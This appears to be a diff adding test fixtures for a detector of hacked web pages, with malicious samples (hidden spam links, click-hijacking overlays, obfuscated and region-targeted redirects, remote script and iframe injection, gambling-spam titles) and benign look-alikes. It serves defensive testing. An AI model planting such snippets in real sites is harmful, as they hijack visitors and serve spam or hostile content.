@@ -178,3 +178,80 @@ def innocent() -> Iterator[Hacked]:
         "keywords of one column",
         head='<meta name="keywords" content="青田石雕,青田石雕博物馆,青田石雕官网">',
     )
+
+
+def later_bad() -> Iterator[Hacked]:
+    """Written after the pages above and before anything was changed for them."""
+    hidden, script, spam, away = (frozenset({kind}) for kind in ("hidden", "script", "spam", "redirect"))
+    ways = {
+        "cut from the right": f'<div style="position:absolute;clip-path:inset(0 100% 0 0)">{_GLOVE}</div>',
+        "link laid over the page": f'<a href="{_AWAY}" style="position:absolute;top:0;left:0;width:100%;height:100%;opacity:0;z-index:99"></a>',
+        "beside the footer": f"<style>.footer~.qk,.main+.qk{{max-height:0px;overflow:hidden}}.qk{{line-height:0;font-size:0}}</style><div class='qk'>{_SHOPS}</div>",
+    }
+    for name, body in ways.items():
+        yield Hacked(name, hidden, body=body)
+    percents = "".join(f"%{ord(letter):02x}" for letter in _AWAY)
+    leads = {
+        "code in two texts": f'<script>setTimeout("window.lo"+"cation.href=\'{_AWAY}\'",100)</script>',
+        "first touch": f"<script>document.addEventListener('touchstart',function(){{location.href='{_AWAY}'}},{{once:true}})</script>",
+        "address in percent signs": f"<script>location.assign(decodeURIComponent('{percents}'))</script>",
+        "visitors of other provinces": f"<script>$.getJSON('https://ipcx.example/?cb=?',function(d){{if(d.region!='浙江'){{location.href='{_AWAY}'}}}})</script>",
+    }
+    for name, body in leads.items():
+        yield Hacked(name, away, body=body)
+    runs = {
+        "tag manager of another name": '<script async src="https://www.googletagmanager.com.gtm-js.example/gtag.js?id=G-1"></script>',
+        "frame put at the end": '<script>document.body.insertAdjacentHTML(\'beforeend\',\'<iframe src="https://zhan-y.example/" width="0" height="0"></iframe>\')</script>',
+        "page fetched in the place of this one": "<script>fetch('https://zhan-y.example/i.html').then(function(r){return r.text()}).then(function(h){document.open();document.write(h);document.close()})</script>",
+    }
+    for name, body in runs.items():
+        yield Hacked(name, script, body=body)
+    titles = {
+        "ways to one house": "博晟体育(BS Sports)·官方网站/注册/下载",
+        "halls of one house": "金洲国际真人_视讯_电子_捕鱼_青田县",
+        "Thai without agents": "เว็บตรง ไม่ผ่านเอเย่นต์ ฝากถอนออโต้",
+        "Turkish bonus": "Deneme Bonusu Veren Siteler 2026 - Güvenilir",
+    }
+    for name, title in titles.items():
+        yield Hacked(name, spam, title=title)
+    yield Hacked(
+        "keywords of one house",
+        spam,
+        head='<meta name="keywords" content="欢庆娱乐登陆,欢庆娱乐注册,欢庆娱乐代理">',
+    )
+    yield Hacked("title ahead of the page", spam, before="<title>博晟娱乐登录_博晟娱乐注册</title>\n")
+    yield Hacked(
+        "registration as a link",
+        spam,
+        body='<div class="main2"><a href="http://www.xinghui-p.example/">星汇平台注册</a> <a href="http://www.tianyu-p.example/">天御娱乐注册</a></div>',
+    )
+
+
+def later_innocent() -> Iterator[Hacked]:
+    """Look-alikes of those, written with them."""
+    pages = {
+        "card that is a link": f'<div class="card" style="position:relative"><h3>公交集团</h3>{_PARTNERS}<a href="/zt/gj/" style="position:absolute;top:0;left:0;width:100%;height:100%;opacity:0"></a></div>',
+        "touch of a slide": "<script>document.addEventListener('touchstart',function(e){startX=e.touches[0].pageX},{passive:true})</script>",
+        "weather of the place": "<script>$.getJSON('https://tianqi-w.example/?cb=?',function(d){$('#tq').html(d.city+' '+d.temp)})</script>",
+        "tool bar put at the end": "<script>document.body.insertAdjacentHTML('beforeend','<div id=\"tool\"><a href=\"/wza/\">无障碍</a></div>')</script>",
+        "own part fetched": "<script>fetch('/inc/footer.html').then(function(r){return r.text()}).then(function(h){document.getElementById('ft').innerHTML=h})</script>",
+        "own host at a carrier": '<script src="https://www.qingtian.gov.cn.wscdns.example/js/a.js"></script>',
+    }
+    for name, body in pages.items():
+        yield Hacked(name, body=body)
+    yield Hacked("declaration ahead of the page", before='<?xml version="1.0" encoding="utf-8"?>\n\n')
+    yield Hacked("clock ahead of the page", before="<script>window.t0=new Date()</script>\n")
+    titles = {
+        "zone": "中国（浙江）自由贸易试验区官方网站上线_青田县商务局",
+        "guide of a platform": "“青田惠民”平台注册登录操作指南下载_青田县人社局",
+        "Arab guests": "中阿“丝路”经贸对接会（مرحبا）在青田举行_青田县商务局",
+        "visa": "Notice on the Visa-Free Policy - Buy Tickets Online at Qingtian Station",
+        "games of pupils": "全县中小学生电子竞技进校园活动（注册运动员名单下载）_青田县教育局",
+    }
+    for name, title in titles.items():
+        text = title.split("_", maxsplit=1)[0]
+        yield Hacked(name, title=title, body=f"<h2>{text}</h2><p>{text}，现予公布。</p>")
+    yield Hacked(
+        "keywords of one feast",
+        head='<meta name="keywords" content="青田杨梅节,青田杨梅节门票,青田杨梅节报名">',
+    )
